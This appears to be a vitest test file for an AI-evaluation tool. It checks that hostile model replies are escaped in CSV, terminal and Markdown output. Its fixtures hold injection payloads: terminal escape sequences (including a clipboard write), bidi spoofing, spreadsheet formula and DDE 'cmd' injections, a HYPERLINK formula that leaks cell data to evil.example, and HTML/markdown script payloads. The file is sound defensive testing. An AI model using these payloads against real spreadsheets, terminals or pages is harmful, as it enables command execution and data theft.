import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { compare } from '../src/commands/compare.ts';
import { list } from '../src/commands/list.ts';
import { report } from '../src/commands/report.ts';
import { show } from '../src/commands/show.ts';
import { verify } from '../src/commands/verify.ts';
import { here } from './support/here.ts';
import { type Ended, evenhand, filesBelow, scratch, write } from './support/program.ts';
import { rows, scripted } from './support/runtimes.ts';

vi.setConfig({ testTimeout: 240_000, hookTimeout: 240_000, maxConcurrency: 3 });

const ESC = '\u001b';
/** What a model could say to do harm. Each is the whole reply of a model of its own. */
const REPLIES: Record<string, string> = {
  colour: `${ESC}[31mred${ESC}[0m and ${ESC}]0;a title\u0007`,
  cursor: `${ESC}[2J${ESC}[1;1H${ESC}[1A gone`,
  link: `${ESC}]8;;http://evil.example${ESC}\\click${ESC}]8;;${ESC}\\`,
  clipboard: `${ESC}]52;c;cm0gLXJm\u0007`,
  'eight-bit': 'a\u009b31mred\u009d0;title\u009c and \u0085',
  bidi: 'safe\u202egnp.exe\u2066 \u200f\u061c\u2069',
  backspace: 'secret\b\b\b\b\b\bpublic\u007f',
  zero: 'a\0b',
  formula: '=HYPERLINK("http://evil.example?"&A1,"see")',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  wide: '\uff1d1+1',
  tab: '\t=1+1',
  return: '\r=1+1',
  'late-return': 'ok\r\n=1+1\r+2',
  quotes: 'a "quoted", b,c;d\n"unclosed',
  table: '| a | b |\n| --- | --- |\n| [x](javascript:alert(1)) | ![i](http://evil.example/i.png) |',
  html: '<script>alert(1)</script><img src=x onerror=alert(1)><!-- -->',
  heading: '# Heading\n\n---\n\n```\ncode\n```\n> quote\n1. one\n- two\n~~~',
  newlines: '\n\n\nfirst\r\nsecond\u2028third\n',
  blank: ' \n\t ',
  silent: '',
  huge: 'word =1+1, "x"\n'.repeat(75_000),
};
const MODELS = Object.keys(REPLIES);

const home = scratch();
const run = join(home, 'run');
let ran: Ended;

beforeAll(async () => {
  write(home, {
    'quotes/suite.yaml': {
      name: 'quotes',
      version: 1,
      prompt: { system: null, template: '{{input}}' },
      // What is read as the answer is the reply's own text, or much of it.
      scorer: { name: 'exact' },
      samples: 'samples.jsonl',
    },
    'quotes/samples.jsonl': `${JSON.stringify({ id: '=cmd()', input: `Say ${ESC}[31m it`, target: ['+1+1', '@x'], cluster: '-1+1', language: 'en' })}
${JSON.stringify({ id: `<b>${ESC}[0m</b>`, input: 'What?', target: ['|x|'], language: 'zh' })}
`,
    'hostile.yaml': {
      name: 'hostile',
      suites: ['./quotes'],
      models: [
        ...MODELS.map((id) => scripted(id, { rule: 'fixed', text: REPLIES[id] })),
        scripted(
          'www.evil.example_b_',
          { rule: 'fixed', text: 'x' },
          { developer: '=1+1 <img src=x>', quantization: `=Q4${ESC}[31m|[x](javascript:y)` },
        ),
      ],
    },
  });
  ran = await evenhand(home, 'run', 'hostile.yaml', '--out', 'run');
});

const CONTROL = /(?![\n\t])[\p{Cc}\p{Bidi_Control}]/u;

it('the run ends well, and keeps every reply as it came', () => {
  expect(ran.code).toBe(0);
  for (const id of MODELS)
    for (const line of readFileSync(join(run, 'records', `${id}.jsonl`), 'utf8')
      .trimEnd()
      .split('\n'))
      expect(JSON.parse(line).turns[0].generation.text).toBe(REPLIES[id]);
});

describe('a CSV file', () => {
  const files = () => filesBelow(run).filter((path) => path.endsWith('.csv'));
  it('has as many cells in each row as columns', () => {
    expect(files().length).toBe(5 + 2 * (MODELS.length + 1));
    for (const file of files()) {
      const table: string[][] = parse(readFileSync(join(run, file), 'utf8'), { relax_column_count: true });
      expect(new Set(table.map((cells) => cells.length)), file).toEqual(new Set([table[0]!.length]));
    }
    for (const id of MODELS) expect(rows(join(run, 'samples', `${id}.csv`)), id).toHaveLength(2);
  });

  it('has no cell that a spreadsheet takes for a formula', () => {
    const cells = files().flatMap((file) => (parse(readFileSync(join(run, file), 'utf8')) as string[][]).flat());
    const formulas = cells.filter((cell) => /^[\t\r]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/.test(cell));
    expect(formulas.filter((cell) => !/^[-+]?\d[\d.,e-]*$/.test(cell))).toEqual([]);
    expect(cells.filter((cell) => cell.startsWith("'=HYPERLINK"))).toHaveLength(2);
    expect(cells).toContain("'=cmd()");
    expect(cells).toContain("'+1+1 | @x");
    expect(cells).toContain("'-1+1");
  });

  it('has no control characters, and says which there were', () => {
    for (const file of files()) expect(readFileSync(join(run, file), 'utf8'), file).not.toMatch(CONTROL);
    expect(readFileSync(join(run, 'samples', 'colour.csv'), 'utf8')).toContain('\\u001b[31mred');
  });
});

describe('the terminal', () => {
  it('gets no control characters while a run goes on', () => {
    expect(ran.stdout).not.toMatch(CONTROL);
    expect(ran.stderr).not.toMatch(CONTROL);
  });

  const quiet = ({ stdout, stderr }: Ended) => {
    expect(`${stdout}${stderr}`).not.toBe('');
    expect(stdout).not.toMatch(CONTROL);
    expect(stderr).not.toMatch(CONTROL);
  };
  it.concurrent.each([[['show', 'run', '=cmd()']], [['compare', 'run']], [['run', `${ESC}[31m`]]])(
    'gets none from the program: %j',
    async (args) => quiet(await evenhand(home, ...args)),
  );
  it.each<[verb: string, act: () => void | Promise<void>]>([
    ['show of a hostile id', () => show('run', `<b>${ESC}[0m</b>`, {})],
    ['show of an unknown one', () => show('run', `no${ESC}[31m`, {})],
    ['show as JSON', () => show('run', '=cmd()', { json: true })],
    ['compare as JSON', () => compare(['run'], { json: true })],
    ['report', () => report(['run'], {})],
    ['verify', () => verify('run', {})],
    ['list', () => list(ESC, {})],
  ])('gets none from %s', async (_, act) => quiet(await here(home, act)));

  it('shows what was said all the same, as JSON with every sign of it', async () => {
    const { stdout } = await here(home, () => show('run', '=cmd()', { json: true }));
    const { records } = JSON.parse(stdout);
    const texts = records.map((record: { model: string; turns: { generation: { text: string } }[] }) => [
      record.model,
      record.turns[0]!.generation.text,
    ]);
    expect(Object.fromEntries(texts)).toMatchObject(REPLIES);
  });
});

it('REPORT.md shows names as words, and no markup of theirs', () => {
  const report = readFileSync(join(run, 'REPORT.md'), 'utf8');
  expect(report).not.toMatch(CONTROL);
  expect(report).toContain('www\\.evil.example\\_b\\_');
  const withoutEscapes = report
    .replace('![Quality against cost and time](frontier.svg)', '')
    .replace(/\\[!-/:-@[-`{-~]/g, '');
  expect(withoutEscapes).not.toMatch(/<|!\[|\]\(|:\/\/|\bwww\./);
  const tables = report.split('\n\n').filter((part) => part.startsWith('|'));
  expect(tables.length).toBeGreaterThan(3);
  for (const table of tables) {
    const widths = table
      .trimEnd()
      .split('\n')
      .map((line) => line.replace(/\\\|/g, '').split('|').length);
    expect(new Set(widths).size).toBe(1);
  }
});

it('the whole is verified', async () => {
  const { code, stdout } = await evenhand(home, 'verify', 'run');
  expect(stdout).toContain('verified: ');
  expect(code).toBe(0);
});
